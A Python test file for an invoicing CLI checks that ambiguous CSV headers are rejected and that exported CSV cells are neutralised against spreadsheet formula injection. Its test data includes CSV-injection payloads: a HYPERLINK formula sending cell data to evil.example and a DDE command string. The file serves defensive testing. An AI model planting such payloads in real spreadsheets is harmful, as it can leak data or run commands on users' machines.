"""CSV files in and out of the CLI cannot be tricked (issue 20, items 2 and 15).

What it proves:

- a header that names a column twice (`originalInvoiceAmount` twice: the last value used to
  win, silently), names one field two ways (`amount` and `Amount`; the wire name and the
  attribute name), or a value under no column name, is refused with one line per problem
  before anything is sent;
- an exported CSV neutralises every text cell a spreadsheet would evaluate (`=`, `+`, `-`,
  `@`, tab, CR first) with a leading `'`, as OWASP advises, while numbers (`-100.50`) stay
  numbers; `--csv-raw` writes them verbatim; and `submit` reads its own export back to the
  very same values.
"""

from __future__ import annotations

import csv
from decimal import Decimal
from pathlib import Path

import attrs
import orjson
import pytest

from amili_async import models, wire
from amili_async._cli._rows import RowWriter, coerce, read_rows, unflatten
from amili_async.sandbox import SandboxConfig, SandboxServer

from .conftest import cli_env, connect, run_cli, sandbox_invoice_count


@pytest.fixture
def amili_sandbox_config() -> SandboxConfig:
    return SandboxConfig(invoices=5, seed=3, batch_delay=0.01)


HEADER = [
    "type",
    "invoiceNumber",
    "originalInvoiceAmount",
    "currency",
    "invoiceDate",
    "dueDate",
    "uniqueSourceInvoiceId",
    "debtors.0.type",
    "debtors.0.lastname",
]


def _cells(n: int, lastname: str = "Nordmann") -> list[str]:
    return [
        "NOTICE",
        f"TR-{n:04d}",
        "100.50",
        "NOK",
        "2024-05-01T00:00:00Z",
        "2024-05-15T00:00:00Z",
        f"tr-src-{n:04d}",
        "PRIVATE",
        lastname,
    ]


def _write(path: Path, header: list[str], rows: list[list[str]]) -> Path:
    with path.open("w", newline="", encoding="utf-8") as stream:
        writer = csv.writer(stream)
        writer.writerow(header)
        writer.writerows(rows)
    return path


@pytest.mark.parametrize(
    ("header", "extra", "problem"),
    [
        (
            [*HEADER, "originalInvoiceAmount"],
            "99999.99",
            "column 'originalInvoiceAmount' appears 2 times",
        ),
        (
            [*HEADER, "Currency"],
            "SEK",
            "columns 'currency' and 'Currency' name the same field",
        ),
        (
            [*HEADER, "unique_source_invoice_id"],
            "tr-other",
            "columns 'uniqueSourceInvoiceId' and 'unique_source_invoice_id' name the same field",
        ),
        ([*HEADER, ""], "lost", "a value in column 10, which the header does not name"),
        (HEADER, "lost", "a value in column 10, which the header does not name"),
    ],
)
async def test_ambiguous_headers_are_refused_before_anything_is_sent(
    amili_sandbox: SandboxServer,
    tmp_path: Path,
    header: list[str],
    extra: str,
    problem: str,
) -> None:
    source = _write(tmp_path / "dup.csv", header, [[*_cells(n), extra] for n in (1, 2, 3)])

    run = await run_cli(
        "submit", "invoices", source, "--org", amili_sandbox.default_org_id,
        env=cli_env(amili_sandbox),
    )  # fmt: skip

    assert run.code == 1, run
    assert "Traceback" not in run.stderr
    lines = run.stderr.strip().splitlines()
    assert any(problem in line for line in lines), lines
    assert lines[-1].startswith("amili-async: error: dup.csv: ")
    assert lines[-1].endswith("nothing was sent")
    assert sandbox_invoice_count(amili_sandbox) == 5
    assert not (tmp_path / "dup.report.csv").exists()


DANGEROUS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Klikk")',
    "+47 22 00 00 00",
    "-100.50",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tinnrykk",
    "\rvognretur",
    "'=already quoted",
    "'plain apostrophe",
]
"""Debtor names an upstream system could hold: each must leave the export inert."""


async def test_export_neutralises_formulas_and_submit_reads_it_back(
    amili_sandbox: SandboxServer, tmp_path: Path
) -> None:
    org = amili_sandbox.default_org_id
    env = cli_env(amili_sandbox)
    # Stored verbatim first (JSON Lines: no spreadsheet conventions), then exported as CSV.
    source = tmp_path / "new.jsonl"
    source.write_bytes(
        b"".join(
            orjson.dumps(unflatten(dict(zip(HEADER, _cells(n, text), strict=True)))) + b"\n"
            for n, text in enumerate(DANGEROUS, 1)
        )
    )
    assert (await run_cli("submit", "invoices", source, "--org", org, env=env)).code == 0
    exported, raw = tmp_path / "all.csv", tmp_path / "raw.csv"
    run = await run_cli("export", "invoices", "--org", org, "--out", exported, env=env)
    assert run.code == 0, run.stderr
    run = await run_cli("export", "invoices", "--org", org, "--out", raw, "--csv-raw", env=env)
    assert run.code == 0, run.stderr

    def ours(path: Path) -> list[dict[str, str]]:
        with path.open(newline="", encoding="utf-8") as stream:
            rows = [r for r in csv.DictReader(stream) if r["invoiceNumber"].startswith("TR-")]
        return sorted(rows, key=lambda r: r["invoiceNumber"])

    cells = [row["debtors.0.lastname"] for row in ours(exported)]
    assert cells == ["'" + text if text[0] in "=+-@\t\r'" else text for text in DANGEROUS]
    assert {Decimal(row["originalInvoiceAmount"]) for row in ours(exported)} == {Decimal("100.50")}
    assert [row["debtors.0.lastname"] for row in ours(raw)] == DANGEROUS

    # The neutralised export, submitted again as new invoices, carries the original texts.
    again = ours(exported)
    for row in again:
        row["invoiceNumber"] = row["invoiceNumber"].replace("TR-", "RT-")
        row["uniqueSourceInvoiceId"] = "rt-" + row["uniqueSourceInvoiceId"]
    copy = tmp_path / "again.csv"
    with copy.open("w", newline="", encoding="utf-8") as stream:
        writer = csv.DictWriter(stream, fieldnames=list(again[0]))
        writer.writeheader()
        writer.writerows(again)
    run = await run_cli("submit", "invoices", copy, "--org", org, env=env)
    assert run.code == 0, run.stderr
    async with connect(amili_sandbox) as client:
        copies = await client.invoices.list(org, page_size=1000).collect()
    texts = sorted(
        (i.invoice_number, i.debtors[0].lastname if i.debtors else None)
        for i in copies
        if i.invoice_number.startswith("RT-")
    )
    assert [text for _, text in texts] == DANGEROUS


async def test_negative_amounts_and_text_round_trip_through_a_csv(
    amili_sandbox: SandboxServer, tmp_path: Path
) -> None:
    """Numbers are never prefixed (a spreadsheet reads `-100.50` as a number, not a formula),
    so an exported amount reads back exactly; a text cell reads back as it was."""
    async with connect(amili_sandbox) as client:
        (invoice,) = await client.invoices.list(amili_sandbox.default_org_id).collect(limit=1)
    credited = attrs.evolve(
        invoice, remaining_amount=Decimal("-100.50"), invoice_number="-100.50 kreditert"
    )
    path = tmp_path / "credited.csv"
    with path.open("w", newline="", encoding="utf-8") as stream:
        RowWriter(stream, "csv", models.Invoice, header=True).write(credited)
    text = path.read_text(encoding="utf-8")
    assert ",-100.50," in text  # the number, as a spreadsheet reads it
    assert ",'-100.50 kreditert," in text  # the text, inert

    (row,) = read_rows(path)
    assert wire.from_wire(coerce(row, models.Invoice), models.Invoice) == credited
